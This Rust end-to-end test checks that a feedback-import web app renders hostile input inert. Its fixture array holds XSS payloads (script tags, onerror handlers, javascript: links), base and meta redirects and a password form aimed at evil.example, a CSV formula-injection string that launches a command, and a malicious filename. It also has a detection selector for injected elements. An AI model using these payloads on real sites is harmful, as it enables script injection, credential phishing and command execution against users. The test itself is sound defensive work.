//! Feedback is hostile text: scripts, formulas, direction overrides, NUL, a line of a megabyte, in every field that a
//! customer or an exporting system fills. It is shown as what it is, everywhere.

use std::fmt::Write;

use anyhow::{Result, ensure};
use e2e::program::Heard;
use e2e::{journey, promise};

/// What strangers write into fields.
const HOSTILE: [&str; 16] = [
    "<script>window.taken=1;alert(1)</script>",
    "<img src=x onerror=\"window.taken=1;alert(1)\">",
    "\"><svg onload=alert(1)>",
    "' onmouseover='window.taken=1' x='",
    "</textarea></title></style></script><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<iframe srcdoc='<script>parent.taken=1</script>'></iframe>",
    "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
    "<!--<form action=//evil.example><input name=password>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "abc \u{202E}dlrow olleh\u{202C} \u{2066}x\u{2069}",
    "nul \0 bell \u{7} escape \u{1b}[31m",
    "{{7*7}} ${7*7} <%= 7*7 %> %s%n",
    "Z\u{0351}\u{036b}\u{0343}a\u{0321}l\u{0322}g\u{0321}o \u{1F468}\u{200D}\u{1F469}\u{200D}\u{1F467} \u{FDFD}",
    "awordthatneverendsandhasnoplacewhereitcouldbebrokenawordthatneverendsandhasnoplacewhereitcouldbebrokenawordthatneverends",
];

/// A file with hostile text in every cell, and in a heading.
fn file() -> String {
    let quoted = |text: &str| format!("\"{}\"", text.replace('"', "\"\""));
    let mut file = format!("id,created,text,author,score,{}\r\n", quoted("city <script>alert(2)</script>"));
    for (i, text) in HOSTILE.iter().enumerate() {
        let author = quoted(HOSTILE[(i + 5) % HOSTILE.len()]);
        let city = quoted(HOSTILE[(i + 9) % HOSTILE.len()]);
        let said = quoted(&format!("{text} The crew was rude and the flight was late. {text}"));
        let _ = write!(file, "{},2026-02-{:02}T10:00:00Z,{said},{author},{},{city}\r\n", quoted(text), 1 + i, i % 11);
    }
    let _ = write!(file, "long,2026-02-20T10:00:00Z,{},Ann,3,Rome\r\n", "very late ".repeat(100_000));
    let _ = write!(file, "one word,2026-02-21T10:00:00Z,{},Ann,3,Rome\r\n", "x".repeat(1_000_000));
    let _ = write!(file, "<b>bad</b>,<script>alert(3)</script>,Never came,{},3,Rome\r\n", quoted(HOSTILE[0]));
    file
}

#[tokio::test]
async fn hostile_text_is_shown_as_what_it_is() -> Result<()> {
    let folder = tempfile::tempdir()?;
    let path = folder.path().join("<img src=x onerror=alert(4)>.csv");
    std::fs::write(&path, file())?;
    let heard = Heard::serve(&folder.path().join("data"))?;
    journey::take("hostile text", &heard, |browser| async move {
        journey::first_run(&browser).await?;
        browser.fill("[data-drop] input[type=file]", &path.to_string_lossy()).await?;
        journey::preview(&browser).await?;
        let import = browser.path().await?;
        let mut pages = vec![import.clone()];
        safe(&browser, &import).await?;
        journey::confirm(&browser).await?;
        pages.extend(["/imports", "/", "/feedback", "/journey", "/settings"].map(str::to_owned));
        pages.extend(
            ["/feedback?words=%3Cscript%3Ealert(5)%3C/script%3E", "/feedback?words=%22", "/feedback?words=%00%E2%80%AE"]
                .map(str::to_owned),
        );
        browser.visit("/feedback").await?;
        let open = "return [...document.querySelectorAll('[data-keys] a.item')].map(a => a.pathname + a.search)";
        let items = browser.ask(open, vec![]).await?;
        let items: Vec<String> = items.as_array().into_iter().flatten().filter_map(|i| i.as_str().map(str::to_owned)).collect();
        // A row with NUL in any of its cells is refused and named: three of them, for the text goes round three columns.
        let expected = HOSTILE.len() - 3 + 2;
        ensure!(items.len() == expected, "{} of {expected} came in", items.len());
        pages.extend(items);
        for page in pages {
            safe(&browser, &page).await?;
        }
        Ok(())
    })
    .await
}

/// Nothing ran, nothing was refused, nothing is wider than a phone, and the HTML is whole.
async fn safe(browser: &e2e::browser::Browser, path: &str) -> Result<()> {
    browser.width(390).await?;
    browser.visit(path).await?;
    promise::quiet(browser, path).await?;
    promise::fits(browser, path).await?;
    let strange = "return [...document.querySelectorAll('iframe, base, meta[http-equiv], [onerror], [onload], [onmouseover], a[href^=\"javascript:\"], form[action^=\"//\"]')].length \
        + [...document.scripts].filter(s => !s.src.startsWith(location.origin)).length";
    ensure!(browser.ask(strange, vec![]).await? == 0, "{path} has elements that a customer wrote");
    let (status, html) = browser.fetch(path).await?;
    ensure!(status == 200 || (status == 422 && path.contains("words=")), "{path} answers {status}");
    ensure!(!html.contains('\0'), "{path} contains NUL");
    promise::well_formed(&html, path)?;
    browser.width(1440).await
}
